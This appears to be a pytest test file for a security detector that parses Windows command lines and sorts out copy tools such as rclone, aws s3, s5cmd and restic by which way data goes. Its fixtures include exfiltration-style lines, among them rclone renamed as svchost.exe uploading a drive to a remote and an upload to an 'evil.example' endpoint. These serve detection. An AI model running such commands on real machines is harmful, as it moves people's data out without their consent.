"""Command lines as Windows splits them, and what copy tools' command lines say (rmm-facts 1.3)."""

from __future__ import annotations

import subprocess

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from detector.triage.command_line import Copy, arguments, copy_of, program, ssh_hosts

SPLIT = {
    '"a b c" d e': ("a b c", "d", "e"),
    r'"ab\"c" "\\" d': ('ab"c', "\\", "d"),
    r'a\\\b d"e f"g h': (r"a\\\b", "de fg", "h"),
    r"a\\\"b c d": (r"a\"b", "c", "d"),
    r'a\\\\"b c" d e': (r"a\\b c", "d", "e"),
    '""': ("",),
    "": (),
    "  \t ": (),
    'x "" y': ("x", "", "y"),
    r'rclone copy "\\srv\a b\\" x:y': ("rclone", "copy", "\\\\srv\\a b\\", "x:y"),
    'x "not closed y': ("x", "not closed y"),
    "a\u00a0b": ("a\u00a0b",),
}


@pytest.mark.parametrize(("line", "wanted"), SPLIT.items())
def test_arguments_as_the_c_runtime_splits_them(line: str, wanted: tuple[str, ...]) -> None:
    """Microsoft, "Parsing C command-line arguments": the first rows are that page's own examples."""
    assert arguments(line) == wanted


@given(st.lists(st.text(st.sampled_from('ab \t"\\:-/$é\n'), max_size=8), max_size=6))
@example(["\\"])
@example(["a\\", '"'])
def test_arguments_give_back_what_list2cmdline_joined(words: list[str]) -> None:
    assert list(arguments(subprocess.list2cmdline(words))) == words


@given(st.text(max_size=80))
def test_no_command_line_breaks_the_reader(line: str) -> None:
    arguments(line)
    copy_of(line)
    program(line)
    ssh_hosts(line)


# verb, sources, targets, remotes, config
UPLOADS = [
    r"rclone.exe copy D:\x nb:drop/a34 --transfers 6 --checkers 16 --no-traverse --stats-one-line",
    r'rclone.exe copy --max-age 2y "D:\x" nb:drop/a34 -q --ignore-existing --auto-confirm --multi-thread-streams 7 --bwlimit 10M',
    r'svchost.exe --config svchost.conf --progress --no-check-certificate copy "D:\x" nb:drop/a34',
    r"rclone copy -P D:\x nb:drop/a34",
    r"rclone copy D:\x nb:drop/a34 -P -v",
    r"rclone -vv copy --s3-upload-concurrency 8 D:\x nb:drop/a34",
    r"rclone copy --progress D:\x nb:drop/a34 --s3-chunk-size 64M",
    r"rclone copy D:\x --sftp-disable-hashcheck nb:drop/a34",
    r"rclone copy -n -i -L D:\x nb:drop/a34",
    r"rclone COPYTO D:\x nb:drop/a34",
    r"cmd.exe /c rclone.exe sync D:\x nb:drop/a34",
    r'"C:\Tools\a b\notes.exe" move "D:\x" "nb:drop/a34" --drive-chunk-size=64M',
    r"rclone --drive-root-folder-id 1AbC copy D:\x nb:drop/a34",
    r"rclone bisync D:\x nb:drop/a34",
]


@pytest.mark.parametrize("line", UPLOADS)
def test_rclone_uploads_whatever_the_switches(line: str) -> None:
    """'verb + at least one `name:path` token, independent of image name'; a switch's value is no path."""
    copy = copy_of(line)
    assert copy is not None
    assert (copy.direction, copy.sources, copy.targets, copy.remotes) == (
        "upload",
        ("D:\\x",),
        ("nb:drop/a34",),
        ("nb:",),
    )


DIRECTIONS = [
    (r"rclone copy opendata:grasp D:\tune\data --transfers 8 --progress", "download", ("opendata:",)),
    (r"rclone copy -P opendata:grasp D:\tune", "download", ("opendata:",)),
    (r"rclone copy \\weights-1\runs coldstore:runs", "upload", ("coldstore:",)),
    (r"rclone copy //weights-1/runs coldstore:runs", "upload", ("coldstore:",)),
    (r"rclone copy opendata:x other:y", "upload", ("opendata:", "other:")),
    (r"rclone copy D:\a E:\b", "", ()),
    (r"rclone copy D:/a E:", "", ()),
    (r"rclone copy \\?\D:\a x2:b", "upload", ("x2:",)),
    (r"rclone bisync opendata: D:\secret", "upload", ("opendata:",)),
    (r"rclone rcat nb:a.bin", "upload", ("nb:",)),
    (r"rclone copyurl https://files.example/x D:\y", "download", ()),
    (r"rclone copy D:\x :sftp,host=203.0.113.9,user=u:dir", "upload", (":sftp,host=203.0.113.9,user=u:",)),
    (r"rclone copy --sftp-host 203.0.113.9 D:\x :sftp:dir", "upload", (":sftp:",)),
    (r"rclone copy D:\x nb:\drop", "upload", ("nb:",)),
    (r"rclone copy D:\x coldstore,endpoint=evil.example:runs", "upload", ("coldstore,endpoint=evil.example:",)),
    (r"rclone copy D:\x 'remote:dir'", "", ()),  # single quotes mean nothing to Windows: this is a file's name
    ('rclone copy D:\\x "my remote:dir"', "upload", ("my remote:",)),
    (
        r"aws.exe s3 cp D:\tune s3://k7/g/ --recursive --endpoint-url https://s3.cache.example",
        "upload",
        ("s3://k7/g/",),
    ),
    (r"aws --profile p s3 sync s3://k7/g/ D:\tune", "download", ("s3://k7/g/",)),
    (r"aws s3 mv --recursive D:\tune s3://k7/g/", "upload", ("s3://k7/g/",)),
    (r"s5cmd --endpoint-url https://s3.cache.example --numworkers 32 cp D:\tune\* s3://k7/", "upload", ("s3://k7/",)),
    (r"s5cmd sync --delete s3://k7/* D:\tune", "download", ("s3://k7/*",)),
]


@pytest.mark.parametrize(("line", "direction", "remotes"), DIRECTIONS)
def test_which_way_data_goes(line: str, direction: str, remotes: tuple[str, ...]) -> None:
    """A drive letter is no remote; on-the-fly remotes (rmm-facts 1.3, 11) and connection strings are part of its name."""
    copy = copy_of(line)
    assert copy is not None
    found = tuple(remote for remote in copy.remotes if not remote.startswith("https:"))
    assert (copy.direction, found) == (direction, remotes)


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        (r"rclone config create nb webdav url=https://f.example/dav user=lk", Copy("", ("nb:",), (), (), "")),
        (r"rclone config create nb sftp --config C:\n.conf", Copy("", ("nb:",), (), (), "C:\\n.conf")),
        (r"rclone listremotes --config=C:\n.conf", Copy("", (), (), (), "C:\\n.conf")),
        (r"rclone lsd nb:", Copy("", ("nb:",), ("nb:",), (), "")),
        (r"rclone -v lsd nb:", Copy("", ("nb:",), ("nb:",), (), "")),
        (r"rclone version", None),
        (r"rclone", None),
        (r"", None),
        (r"notepad.exe copy", None),
    ],
)
def test_what_is_no_copy(line: str, wanted: Copy | None) -> None:
    assert copy_of(line) == wanted


@pytest.mark.parametrize(
    ("line", "config"),
    [
        (r"rclone copy D:\x nb:y --config C:\n.conf", "C:\\n.conf"),
        (r'rclone --config="C:\a b\n.conf" copy D:\x nb:y', "C:\\a b\\n.conf"),
        (r"rclone copy D:\x nb:y", ""),
        (r"rclone copy --config C:\first.conf D:\x nb:y --config C:\n.conf", "C:\\n.conf"),
    ],
)
def test_the_configuration_is_the_last_one_named(line: str, config: str) -> None:
    copy = copy_of(line)
    assert copy is not None
    assert copy.config == config


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ('"C:\\Program Files\\T\\a.exe" --service', "C:\\Program Files\\T\\a.exe"),
        ("C:\\Program Files\\T\\a.exe --service", "C:\\Program Files\\T\\a.exe"),
        ("C:\\T\\a.EXE", "C:\\T\\a.EXE"),
        ("\\SystemRoot\\System32\\drivers\\x.sys", "\\SystemRoot\\System32\\drivers\\x.sys"),
        ("", ""),
    ],
)
def test_the_program_of_a_service(line: str, wanted: str) -> None:
    assert program(line) == wanted


SSH_HOSTS = {
    r"scp.exe -r D:\m ada@node07.lab.example:/scratch/": ("node07.lab.example",),
    r"scp -i C:\k ada@n1:/w/a D:\x": ("n1",),
    r'"C:\Windows\System32\OpenSSH\scp.exe" D:\a [2001:db8::7]:/w': ("2001:db8::7",),
    r"scp D:\a C:\b": (),
    r"ssh -p 2222 -L 8888:localhost:8888 ada@node07": ("node07",),
    r"ssh node07 tar cf - /w": ("node07",),
    r"sftp ada@203.0.113.9": ("203.0.113.9",),
    r"ssh -V": (),
    "": (),
}


@pytest.mark.parametrize(("line", "wanted"), SSH_HOSTS.items())
def test_where_ssh_goes_to(line: str, wanted: tuple[str, ...]) -> None:
    """Policy: `destinations` - "where it connects to: hosts, host:port, addresses"."""
    assert ssh_hosts(line) == wanted


def test_restic_says_what_it_saves_and_where() -> None:
    line = r'"C:\p\restic.exe" -r rest:https://r.example:8000/x --password-file C:\p\d.txt backup \\w\ckpt --exclude *.tmp -v'
    assert copy_of(line) == Copy("upload", (), (r"\\w\ckpt",), ("rest:https://r.example:8000/x",), "")
    assert copy_of(r"restic --repo=s3:https://s/b backup D:\m") == Copy(
        "upload", (), ("D:\\m",), ("s3:https://s/b",), ""
    )
    assert copy_of("restic -r x snapshots") is None or copy_of("restic -r x snapshots") != Copy(
        "upload", (), (), ("x",), ""
    )
